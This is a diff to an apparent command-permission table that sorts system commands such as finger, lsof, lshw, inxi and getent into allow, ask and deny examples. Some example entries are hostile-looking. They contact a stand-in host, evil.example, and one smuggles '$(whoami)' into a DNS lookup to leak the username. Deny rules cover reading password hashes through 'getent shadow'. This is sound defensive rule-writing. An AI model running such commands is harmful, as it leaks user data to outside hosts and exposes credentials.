@@ -91,6 +91,13 @@ export const system: readonly CommandSpec[] = [
     examples: { allow: ["last -5", "last -n 3 root"], deny: ["last -f .env"] },
   },
   {
+    names: "finger",
+    summary: "users, also of other machines",
+    operands: "text*",
+    effects: "net",
+    examples: { ask: ["finger root", "finger data@evil.example"] },
+  },
+  {
     names: "lsof",
     summary: "open files",
     options: rows(
@@ -98,9 +105,10 @@ export const system: readonly CommandSpec[] = [
       "# write a cache: -D",
     ),
     operands: "list*",
+    analyse: "host-names",
     examples: {
       allow: ["lsof -i :3000", "lsof -p 1", "lsof -nP -iTCP -sTCP:LISTEN", "lsof a.txt", "lsof +D src"],
-      ask: ["lsof -D b/tmp/x"],
+      ask: ["lsof -D b/tmp/x", "lsof -i @data.evil.example", "lsof -i@data.evil.example:80"],
     },
   },
   {
@@ -142,7 +150,29 @@ export const system: readonly CommandSpec[] = [
       HELP,
     ),
     operands: "list*",
-    examples: { allow: ["lsblk", "lsblk -f -o NAME,SIZE", "lscpu", "findmnt -n -o TARGET /", "lsusb -v"] },
+    // `lspci -q` asks the network: not listed.
+    examples: { ask: ["lspci -q"], allow: ["lsblk", "lsblk -f -o NAME,SIZE", "lscpu", "findmnt -n -o TARGET /", "lsusb -v"] },
+  },
+  {
+    names: "lshw",
+    summary: "hardware",
+    style: "words",
+    options: rows(
+      "-short; -html; -json; -xml; -businfo; -numeric; -quiet; -sanitize; -class -C -c=text; -disable -enable=text; -version -> stop",
+      "# writes a file: -dump",
+    ),
+    operands: "",
+    examples: { allow: ["lshw -short", "lshw -class disk"], ask: ["lshw -dump hw.db"] },
+  },
+  {
+    names: "inxi",
+    summary: "hardware and system",
+    options: rows(
+      "-F; -b; -A; -B; -C; -D; -d; -f; -G; -I; -l; -m; -M; -n; -N; -o; -p; -R; -r; -s; -S; -u; -v=text; -x; -xx; -xxx; -z; -c=text",
+      "# ask the network or update it: -i -w -W -U",
+    ),
+    operands: "",
+    examples: { allow: ["inxi -Fxz"], ask: ["inxi -i", "inxi -U"] },
   },
   {
     names: "mount",
@@ -193,7 +223,20 @@ export const system: readonly CommandSpec[] = [
     names: "getent",
     summary: "looks up system databases",
     options: rows("-s --service=text; -i --no-idn; -A --no-addrconfig; -? --help -> stop; --usage -> stop; -V --version -> stop"),
-    operands: "text*",
-    examples: { allow: ["getent passwd root", "getent hosts localhost"] },
+    style: "posix",
+    subcommands: {
+      "passwd|group|services|protocols|rpc|aliases|ethers|networks|initgroups|netgroup": {
+        operands: "text*",
+        examples: { allow: ["getent passwd root", "getent group"] },
+      },
+      "hosts|ahosts|ahostsv4|ahostsv6": {
+        operands: "text*",
+        analyse: "host-names",
+        examples: { allow: ["getent hosts", "getent hosts localhost"], ask: ["getent hosts $(whoami).evil.example"] },
+      },
+      // Password hashes.
+      "shadow|gshadow": { operands: "text*", effects: "read /etc/shadow", examples: { deny: ["getent shadow", "getent -s files shadow root"] } },
+    },
+    examples: { allow: ["getent --help"], none: ["getent frobnicate"] },
   },
 ];
